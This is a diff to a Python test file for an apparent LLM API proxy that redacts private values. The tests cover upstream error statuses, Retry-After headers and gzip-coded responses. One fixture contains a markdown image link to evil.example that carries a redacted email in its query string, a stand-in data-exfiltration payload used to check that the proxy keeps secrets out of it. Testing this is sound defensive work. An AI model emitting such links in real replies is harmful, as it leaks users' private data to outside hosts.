@@ -3,6 +3,8 @@
 from __future__ import annotations
 
 import asyncio
+import gzip
+import zlib
 from collections.abc import Sequence
 from dataclasses import replace
 from typing import Any
@@ -120,7 +122,7 @@ async def test_an_answered_call() -> None:
 
 async def test_what_did_not_come_back_is_counted_in_the_record() -> None:
     """A value kept out of a stranger's link, a surrogate that stands for nothing, and half of one."""
-    reply = "![](https://evil.example/?q=<EMAIL_ADDRESS_1>) <EMAIL_ADDRESS_7>, EMAIL_ADDRESS_1, dear <EMAIL_ADDRESS_1>"
+    reply = "![](https://evil.example/?q=<EMAIL_ADDRESS_1>) <EMAIL_ADDRESS_7> EMAIL_ADDRESS_1() dear <EMAIL_ADDRESS_1>"
     stage = Stage(lambda _: ScriptedReply(chunks=[completion(reply)]))
 
     exchange = await stage.run(question(f"Write to {SECRET}."))
@@ -272,6 +274,78 @@ async def test_an_upstream_that_misbehaves(chunks: list[Any], kind: str, code: s
     assert stage.answer.error is not None
     assert stage.answer.error.code == code
     assert stage.record.outcomes[0].state is State.FAILED
+
+
+REFUSALS = [
+    (429, [b"<html>slow down</html>"], "text/html", 429),
+    (429, [], "application/json", 429),
+    (401, [b"no"], "text/plain", 401),
+    (400, [b'[{"error": "x"}]'], "application/json", 400),
+    (503, [b"busy"], "text/plain", 502),
+]
+
+
+@pytest.mark.parametrize(("status", "chunks", "kind", "told"), REFUSALS)
+async def test_an_error_that_is_no_json_object_keeps_its_status(
+    status: int, chunks: list[bytes], kind: str, told: int
+) -> None:
+    """So that a rate limit is no outage, and an SDK waits as long as it is asked to."""
+    headers = (("Content-Type", kind), ("Retry-After", "7"))
+    stage = Stage(lambda _: ScriptedReply(status=status, headers=headers, chunks=list(chunks)))
+
+    await stage.run(question("hi"))
+
+    error = stage.answer.error
+    assert error is not None
+    code = "UPSTREAM_STATUS" if status < 500 else "UPSTREAM_INVALID"
+    assert (error.code, error.status, error.retry_after) == (code, told, "7")
+    assert (stage.record.outcomes[0].state, stage.record.outcomes[0].status) == (State.FAILED, told)
+
+
+async def test_a_problem_document_passes() -> None:
+    headers = (("Content-Type", "application/problem+json"),)
+    stage = Stage(lambda _: ScriptedReply(status=400, headers=headers, chunks=[b'{"title":"no"}']))
+
+    await stage.run(question("hi"))
+
+    assert (stage.answer.status, stage.answer.body) == (400, b'{"title":"no"}')
+
+
+def coded(whole: bytes, sizes: Sequence[int]) -> list[bytes]:
+    """As gzip, flushed behind each piece, as servers send a stream."""
+    packer = zlib.compressobj(wbits=31)
+    pieces, at = [], 0
+    for size in sizes:
+        pieces.append(packer.compress(whole[at : at + size]) + packer.flush(zlib.Z_SYNC_FLUSH))
+        at += size
+    return [*pieces, packer.compress(whole[at:]) + packer.flush(zlib.Z_SYNC_FLUSH), packer.flush()]
+
+
+async def test_a_coded_stream_leaves_as_it_comes() -> None:
+    """But for the chunk with the end, which waits for the outcome."""
+    whole = events("hello there, how are you?")
+    ends = [at + 2 for at in range(len(whole)) if whole[at : at + 2] == b"\n\n"]
+    chunks = coded(whole, [ends[0], ends[3] - ends[0]])
+    headers = (*SSE, ("Content-Encoding", "gzip"))
+    stage = Stage(lambda _: ScriptedReply(headers=headers, chunks=list(chunks)))
+
+    await stage.run(question("hi", stream=True))
+
+    assert stage.answer.body == b"".join(chunks)
+    before = stage.steps[: stage.steps.index("close answered")]
+    assert before.count("write") == 2
+    assert stage.steps[-2:] == ["write", "end"]
+
+
+async def test_a_coded_body_waits_whole() -> None:
+    body = gzip.compress(completion("x" * 5000))
+    headers = (("Content-Type", "application/json"), ("Content-Encoding", "gzip"))
+    stage = Stage(lambda _: ScriptedReply(headers=headers, chunks=[body]))
+
+    await stage.run(question("hi"))
+
+    assert stage.answer.body == body
+    assert stage.steps.index("close answered") < stage.steps.index("write")
 
 
 async def test_an_upstream_that_dies_mid_stream_ends_in_an_error_not_in_silence() -> None:
